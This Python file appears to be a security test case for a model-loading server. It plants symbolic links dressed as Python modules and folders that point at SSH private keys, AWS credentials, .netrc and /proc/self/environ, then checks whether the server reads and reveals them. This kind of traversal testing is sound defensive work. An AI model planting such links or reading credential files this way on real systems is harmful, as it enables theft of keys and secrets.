"""Links in the repository that lead to keys, in the clothes of Python files, packages and folders.  Harm: the server
reads them, and shows what it read."""

import os

from kit import HOST, Harmless, attack, read

HARM = ("secret",)
PLANT = {
    "key.py": ("link", "@HOST@/home/.ssh/id_rsa"),
    "credentials.py": ("link", "../../home/.aws/credentials"),
    "home": ("link", "@HOST@/home"),
    "everything": ("link", "/"),
    "around": ("link", "."),
    "package/__init__.py": ("link", "@HOST@/other/notes.txt"),
    "environment.py": ("link", "/proc/self/environ"),
}
FOLDER = f"{HOST}/strange/models"


for name in PLANT:
    if name.endswith(".py"):
        attack(name, lambda name=name: read(os.path.join(FOLDER, name)))
attack("home", lambda: read(f"{FOLDER}/home/.aws/credentials"))
attack("everything", lambda: read(f"{FOLDER}/everything{HOST}/home/.netrc"))
attack("import", lambda: __import__("key"))


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
